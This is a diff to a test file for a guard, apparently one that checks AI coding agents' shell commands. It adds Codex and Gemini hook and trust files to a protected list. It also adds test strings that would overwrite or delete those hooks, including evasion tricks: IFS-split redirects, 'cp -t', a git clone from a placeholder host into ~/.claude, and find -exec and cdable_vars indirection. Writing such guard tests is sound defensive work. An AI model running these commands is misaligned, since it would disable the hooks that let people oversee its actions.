@@ -87,6 +87,13 @@ PROTECTED_FILES = [
     "~/.config/systemd/user/keycardd.service",
     "~/.config/systemd/user/keycardd.service.d/override.conf",
     "~/Library/LaunchAgents/ai.keycard.keycardd.plist",
+    # Codex's and Gemini CLI's hooks, where keycardd's hook is installed for them, and the trust that enables them
+    "~/.codex/hooks.json",
+    "~/.codex/config.toml",
+    "/home/u/proj/.codex/hooks.json",
+    "~/.gemini/settings.json",
+    "~/.gemini/trustedFolders.json",
+    "/home/u/proj/.gemini/settings.json",
 ]
 
 
@@ -132,6 +139,16 @@ SHELL_WRITES = [
     "cat /tmp/evil.json | tee ~/.claude/settings.json",
     "echo x > $HOME/.claude/settings.json",
     "echo x > ${HOME}/.config/keycard/keycard.toml",
+    "echo '{}' > ~/.codex/hooks.json",
+    "sed -i /keycard/d ~/.codex/config.toml",
+    "echo '{}' > .gemini/settings.json",
+    "rm -rf ~/.gemini",
+    # the attack pass: a redirect target split by IFS, cp's target directory option, a clone into the hooks dir
+    "echo {} > ~/.claude/settings.json${IFS}",
+    "cp -t ~/.claude evil.json",
+    "git clone https://x.example/r ~/.claude",
+    "cd ~ && git clone git@x.example:x/.claude.git",
+    "echo x > ~/.claude/$f",
 ]
 
 
@@ -437,6 +454,22 @@ def test_shims_deny_an_unknown_cursor_gate_when_keycardd_cannot_answer(shim: Any
     assert "keycardd is not running" in answer["agent_message"]
     observed = json.dumps({"hook_event_name": "afterSomethingNew", "conversation_id": "c"}).encode()
     assert json.loads(shim.run("cursor", observed, "--no-autostart").stdout) == {}
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("find ~ -name settings.json -path '*claude*' -exec cp /dev/null {} \\;", "ask"),
+        ("find ~/work -path '*/.claude/*' -delete", "ask"),
+        ("find . -name '*.json' -exec cat {} +", "no_objection"),
+        ("find . -name settings.json", "no_objection"),  # only listed
+        ("shopt -s cdable_vars; d=~/.claude; cd d && echo {} > settings.json", "ask"),  # cd follows $d
+    ],
+)
+def test_guard_files_reached_indirectly_ask(line: str, expected: str) -> None:
+    """-exec's program sees only `{}` (the names find's tests select are the files it changes); with cdable_vars
+    `cd d` goes where $d points: the working directory is unknown and the name is all there is."""
+    assert decide("Bash", {"command": line})[0] == expected
 
 
 @pytest.mark.parametrize(
